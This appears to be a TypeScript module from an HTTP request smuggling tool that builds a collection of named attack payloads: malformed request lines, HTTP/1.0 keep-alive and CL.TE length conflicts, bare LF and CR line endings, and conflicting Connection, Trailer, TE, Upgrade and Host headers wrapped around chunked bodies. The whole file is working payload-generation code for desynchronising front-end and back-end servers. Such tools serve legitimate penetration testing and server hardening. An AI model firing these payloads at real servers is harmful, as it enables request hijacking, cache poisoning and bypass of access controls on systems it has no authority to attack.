import { type Attack, chunk, head, LAST_CHUNK, type Payload } from './payload.ts';

const CHUNKED = 'Transfer-Encoding: chunked';
const lengthOf = (content: string) => `Content-Length: ${content.length}`;

const chunkedGet = (attack: Attack, options: Parameters<typeof head>[2] = {}) =>
  head(attack, [CHUNKED], { method: 'GET', ...options }) + chunk(attack.inner) + LAST_CHUNK;

/** First lines that say in an odd way what is asked for, and in which version of HTTP. */
const FIRST_LINES: Record<string, (attack: Attack) => Parameters<typeof head>[2]> = {
  'an absolute URI': ({ target, host }) => ({ target: `http://${host}${target}` }),
  'another host’s absolute URI': ({ target }) => ({ target: `http://elsewhere.test${target}` }),
  'an absolute URI with a user': ({ target, host }) => ({ target: `http://a:b@${host}${target}` }),
  'an https URI': ({ target, host }) => ({ target: `https://${host}${target}` }),
  'two slashes': ({ target }) => ({ target: `/${target}` }),
  'a fragment': ({ target }) => ({ target: `${target}#/x` }),
  'no slash': ({ target }) => ({ target: target.slice(1) }),
  'an asterisk': () => ({ method: 'OPTIONS', target: '*' }),
  'CONNECT to ourselves': ({ host }) => ({ method: 'CONNECT', target: host }),
  'a small method': () => ({ method: 'get' }),
  'an unknown method': () => ({ method: 'BREW' }),
  TRACE: () => ({ method: 'TRACE' }),
  'two spaces': ({ target }) => ({ target: ` ${target}` }),
  'a tab': ({ target }) => ({ method: `GET\t${target}`, target: '' }),
  'two versions': ({ target }) => ({ target: `${target} HTTP/1.1` }),
  'HTTP/1.0': () => ({ version: 'HTTP/1.0' }),
  'HTTP/1.2': () => ({ version: 'HTTP/1.2' }),
  'HTTP/2.0': () => ({ version: 'HTTP/2.0' }),
  'HTTP/01.1': () => ({ version: 'HTTP/01.1' }),
  'a small version': () => ({ version: 'http/1.1' }),
};

const firstLines: Payload[] = Object.entries(FIRST_LINES).map(([name, options]) => ({
  name: `chunked, first line with ${name}`,
  bytes: (attack) => chunkedGet(attack, options(attack)),
}));

/** HTTP/1.0 knows no chunks, so a length beside them is another reading. */
const oldVersion: Payload[] = [
  {
    name: 'HTTP/1.0 that stays open, chunked',
    bytes: (attack) => {
      const options = { method: 'GET', version: 'HTTP/1.0' };
      const start = head(attack, ['Connection: keep-alive', CHUNKED], options);
      return start + chunk(attack.inner) + LAST_CHUNK;
    },
  },
  {
    name: 'HTTP/1.0 that stays open, CL.TE',
    bytes: (attack) => {
      const content = LAST_CHUNK + attack.inner;
      const headers = ['Connection: keep-alive', lengthOf(content), CHUNKED];
      return head(attack, headers, { version: 'HTTP/1.0' }) + content;
    },
  },
  {
    name: 'HTTP/1.0 that stays open, with a length',
    bytes: (attack) => {
      const headers = ['Connection: keep-alive', lengthOf(attack.inner)];
      return head(attack, headers, { method: 'GET', version: 'HTTP/1.0' }) + attack.inner;
    },
  },
  {
    name: 'HTTP/0.9',
    bytes: ({ target, inner }) => `GET ${target}\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
  },
];

const lineEnds: Payload[] = [
  {
    name: 'bare LF, with a length',
    bytes: (attack) => head(attack, [lengthOf(attack.inner)], { end: '\n' }) + attack.inner,
  },
  {
    name: 'bare LF, chunked',
    bytes: (attack) => head(attack, [CHUNKED], { end: '\n' }) + chunk(attack.inner) + LAST_CHUNK,
  },
  {
    name: 'bare LF in the chunks too',
    bytes: (attack) => {
      const end = '\n';
      return `${head(attack, [CHUNKED], { end })}${chunk(attack.inner, { end })}0\n\n`;
    },
  },
  {
    name: 'bare CR',
    bytes: (attack) => head(attack, [lengthOf(attack.inner)], { end: '\r' }) + attack.inner,
  },
  {
    name: 'an empty line first',
    bytes: (attack) => `\r\n${chunkedGet(attack)}`,
  },
];

const headers: Payload[] = [
  'Expect: 100-continue',
  'Expect: 100-continue, x',
  'Connection: close, Transfer-Encoding',
  'Connection: Content-Length',
  'Connection: Host',
  'Connection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
  'Connection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
  'Trailer: Content-Length, Transfer-Encoding',
  'TE: trailers, chunked',
  'X-HTTP-Method-Override: GET',
  'Host: elsewhere.test',
].map((header) => ({
  name: `chunked GET with ${header.replaceAll('\r\n', ', ')}`,
  bytes: (attack) => head(attack, [header, CHUNKED], { method: 'GET' }) + chunk(attack.inner) + LAST_CHUNK,
}));

export const linePayloads = [...firstLines, ...oldVersion, ...lineEnds, ...headers];
